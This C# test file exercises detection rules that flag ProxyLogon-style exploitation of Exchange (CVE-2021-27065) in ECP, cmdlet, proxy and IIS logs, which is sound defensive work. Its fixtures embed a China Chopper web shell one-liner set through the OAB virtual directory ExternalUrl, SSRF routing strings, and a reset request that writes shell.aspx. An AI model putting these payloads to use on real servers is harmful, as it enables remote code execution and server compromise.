using Exhunt.Detection.Web;
using Exhunt.Evidence;
using Exhunt.Findings;
using Exhunt.Tests.Support;

namespace Exhunt.Tests.WebRules;

public class VirtualDirectoryTests
{
    private const string ChopperSetLine =
        "2021-03-03T03:12:45.123Z,EX01,ECP.Request,\"S:TIME=4365;S:SID=3a5d3a0b-a544-4d5c-9b1d-3d33d4968b48;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"klk123456\"\"],\"\"unsafe\"\");}</script>''.Identity=''87fc3593-ca62-4d08-93bd-782275d33c1f''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=x;S:EX=;S:ACTID=c3f8f7e0-9817-46da-9ed4-fe575da51fbd;S:RS=0;S:BLD=15.1.2176.2\"";

    [Fact]
    public void Chopper_in_oab_external_url_is_compromise_and_the_value_is_unescaped()
    {
        var findings = WebLog.Detect(WebLog.EcpServerPath, WebLog.EcpServer(ChopperSetLine));
        var f = Assert.Single(findings);
        Assert.Equal("exch-27065-set-vdir-script", f.Rule.Id);
        Assert.Equal(Proves.Compromise, f.Rule.Implies);
        Assert.Equal(Outcome.Succeeded, f.Outcome);
        Assert.Equal("Set-OabVirtualDirectory ExternalUrl=http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>", f.Evidence);
        Assert.Equal("EX01", f.Details!["server"]);
    }

    [Fact]
    public void Ecp_activity_log_line_fires_too()
    {
        var text = "#Software: Microsoft Exchange Server\r\n#Version: 15.0.0.0\r\n#Log-type: ECP Activity Context Log\r\n#Date: 2021-03-03T00:00:00.000Z\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n"
            + ChopperSetLine.Replace("ECP.Request", "ECP.Activity") + "\r\n";
        var findings = WebLog.Detect("C/Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Activity/ECPActivity_11500_20210303-1.LOG", text);
        Assert.Equal("exch-27065-set-vdir-script", Assert.Single(findings).Rule.Id);
    }

    [Fact]
    public void Failed_cmdlet_with_an_exception_is_reported_as_failed()
    {
        var line = ChopperSetLine.Replace("S:EX=;", "S:EX=Microsoft.Exchange.Data.DataValidationException;");
        Assert.Equal(Outcome.Failed, Assert.Single(WebLog.Detect(WebLog.EcpServerPath, WebLog.EcpServer(line))).Outcome);
    }

    [Fact]
    public void Admin_setting_an_https_external_url_stays_quiet()
    {
        var line = "2021-03-03T03:12:45.123Z,EX01,ECP.Request,\"S:TIME=120;S:SID=3a5d3a0b;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''https://mail.contoso.com/OAB''.Identity=''EX01\\OAB (Default Web Site)''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:EX=;S:RS=0\"";
        var other = "2021-03-03T03:12:46.000Z,EX01,ECP.Request,\"S:TIME=13;S:SID=x;S:CMD=Get-InboxRule;S:REQID=;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=y;S:REFERRER=;S:EX=;S:RS=0\"";
        Assert.Empty(WebLog.Detect(WebLog.EcpServerPath, WebLog.EcpServer(line, other)));
    }

    [SkippableFact]
    public void Lab_ecp_server_row_from_wazuh_fires()
    {
        var path = Corpus.Path_("logs/lab/wazuh-ruleset-tests/ecp_server_log__proxylogon_lab.log");
        var findings = WebLog.Detect("Exchange/Logging/ECP/Server/ECPServer20210406-1.LOG", File.ReadAllText(path), ArtifactKind.EcpServer);
        var f = Assert.Single(findings);
        Assert.Equal("exch-27065-set-vdir-script", f.Rule.Id);
        Assert.Contains("<sanitized>", f.Evidence);
        Assert.Equal(Outcome.Succeeded, f.Outcome);
    }

    [Fact]
    public void Rps_cmdlet_log_set_vdir_with_script_fires_and_plain_url_does_not()
    {
        var bad = WebLog.Csv("Rps Cmdlet Logs", WebLog.RpsCmdletFields, new Dictionary<string, string>
        {
            ["DateTime"] = "2021-03-03T03:12:45.123Z", ["AuthenticatedUser"] = "CONTOSO\\EX01$", ["Cmdlet"] = "Set-OabVirtualDirectory",
            ["Parameters"] = "-Identity:'EX01\\OAB (Default Web Site)' -ExternalUrl:'http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"p\"],\"unsafe\");}</script>'",
            ["ExecutionResult"] = "Success",
        }, new Dictionary<string, string>
        {
            ["DateTime"] = "2021-03-03T03:13:45.123Z", ["Cmdlet"] = "Set-OwaVirtualDirectory",
            ["Parameters"] = "-Identity:'EX01\\owa (Default Web Site)' -ExternalUrl:'https://mail.contoso.com/owa'", ["ExecutionResult"] = "Success",
        });
        var findings = WebLog.Detect("Exchange/Logging/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2021030303-1.LOG", bad);
        var f = Assert.Single(findings);
        Assert.Equal(Outcome.Succeeded, f.Outcome);
        Assert.Equal("CONTOSO\\EX01$", f.User);
    }

    private static Dictionary<string, string> Reset(string status) => WebLog.ProxyRow(new()
    {
        ["AnchorMailbox"] = "ServerInfo~a]@ex01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=abc&schema=ResetOABVirtualDirectory#",
        ["HttpStatus"] = status, ["RoutingHint"] = "X-BEResource-Cookie",
    });

    [Fact]
    public void Reset_vdir_through_the_ssrf_with_200_is_compromise_and_otherwise_failed()
    {
        var findings = WebLog.Detect(WebLog.EcpProxyPath, WebLog.HttpProxy(Reset("200"), Reset("500")));
        var hits = findings.Of("exch-27065-reset-vdir-ssrf");
        Assert.Equal(2, hits.Count);
        Assert.Equal(Outcome.Succeeded, hits[0].Outcome);
        Assert.Equal(Severity.Critical, hits[0].Severity);
        Assert.Equal(Outcome.Failed, hits[1].Outcome);
        Assert.Equal(2, findings.Of("exch-ssrf-serverinfo").Count);
    }

    [Fact]
    public void Reset_vdir_without_a_trailing_hash_is_not_the_test_proxylogon_shape()
    {
        var row = Reset("200");
        row["AnchorMailbox"] = "ServerInfo~a]@ex01:444/ecp/DDI/DDIService.svc/GetObject?schema=ResetOABVirtualDirectoryX";
        Assert.Empty(WebLog.Detect(WebLog.EcpProxyPath, WebLog.HttpProxy(row)).Of("exch-27065-reset-vdir-ssrf"));
    }

    [Fact]
    public void Back_end_iis_reset_by_the_machine_account_is_compromise_and_claims_the_named_file()
    {
        var text = WebLog.Iis(
            "2021-03-03 03:14:05 10.0.0.5 POST /ecp/DDI/DDIService.svc/SetObject schema=ResetOABVirtualDirectory&msExchEcpCanary=abc&FilePathName=%5C%5C127.0.0.1%5Cc$%5Cinetpub%5Cwwwroot%5Caspnet_client%5Cshell.aspx&CorrelationID=<empty>;&cafeReqId=cde2; 444 CONTOSO\\EX01$ 127.0.0.1 ExchangeServicesClient/0.0.0.0 - 200 0 0 1203",
            "2021-03-03 04:00:00 10.0.0.5 POST /ecp/DDI/DDIService.svc/SetObject schema=ResetOABVirtualDirectory&msExchEcpCanary=def&CorrelationID=<empty>;&cafeReqId=cde3; 444 CONTOSO\\admin 10.0.0.9 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 900");
        var (findings, writes) = WebLog.DetectWithWrites("C/inetpub/logs/LogFiles/W3SVC2/u_ex210303.log", text);
        var machine = Assert.Single(findings.Of("web-27065-reset-vdir-request"));
        Assert.Equal(Outcome.Succeeded, machine.Outcome);
        Assert.Equal("CONTOSO\\EX01$", machine.User);
        var admin = Assert.Single(findings.Of("web-27065-reset-vdir-by-user"));
        Assert.Equal(Proves.Weak, admin.Rule.Implies);
        var claim = Assert.Single(writes);
        Assert.Equal(@"\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\shell.aspx", claim.WindowsPath);
        Assert.Equal("web-27065-reset-vdir-request", claim.RuleId);
        Assert.Equal(5, claim.Line);
    }

    [Fact]
    public void Ordinary_ddi_setobject_on_another_schema_stays_quiet()
    {
        var text = WebLog.Iis("2021-03-03 04:00:00 10.0.0.5 POST /ecp/DDI/DDIService.svc/SetObject schema=OABVirtualDirectory&msExchEcpCanary=def&CorrelationID=<empty>;&cafeReqId=cde3; 444 CONTOSO\\EX01$ 127.0.0.1 Mozilla/5.0 - 200 0 0 900");
        Assert.Empty(WebLog.Detect(WebLog.IisPath, text));
    }
}
